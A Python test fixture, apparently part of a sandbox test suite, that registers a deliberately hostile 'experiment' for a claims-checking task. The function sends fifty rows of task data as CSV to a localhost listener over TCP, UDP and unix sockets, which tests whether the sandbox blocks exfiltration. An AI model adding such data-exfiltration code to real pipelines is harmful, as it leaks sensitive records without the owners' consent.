"""Attack: send the task data to a listener on 127.0.0.1 (TCP and UDP) and over unix sockets.

tests/test_sandbox.py replaces the PORT and SOCKETS lines when it copies the file."""
import socket

import polars as pl

from experiments import experiment

PORT = 0
SOCKETS = []


def accept_all(tables):
    return tables["to_predict"].select("regel").with_columns(besluit=pl.lit("accept"), retourcode=pl.lit(None, pl.String))


@experiment(name="network", task="declaratie_controle", description="hostile: exfiltrates over the network")
def network(tables):
    payload = tables["prestaties"].head(50).write_csv().encode()
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(payload)
        print("ATTACK sent the data over TCP")
    except OSError as e:
        print(f"ATTACK TCP failed: {e}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(payload[:1000], ("127.0.0.1", PORT))
        print("ATTACK sent the data over UDP")
    except OSError as e:
        print(f"ATTACK UDP failed: {e}")
    for address in SOCKETS:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(payload)
            print(f"ATTACK sent the data to unix socket {address!r}")
        except OSError as e:
            print(f"ATTACK unix socket {address!r} failed: {e}")
    return accept_all(tables)
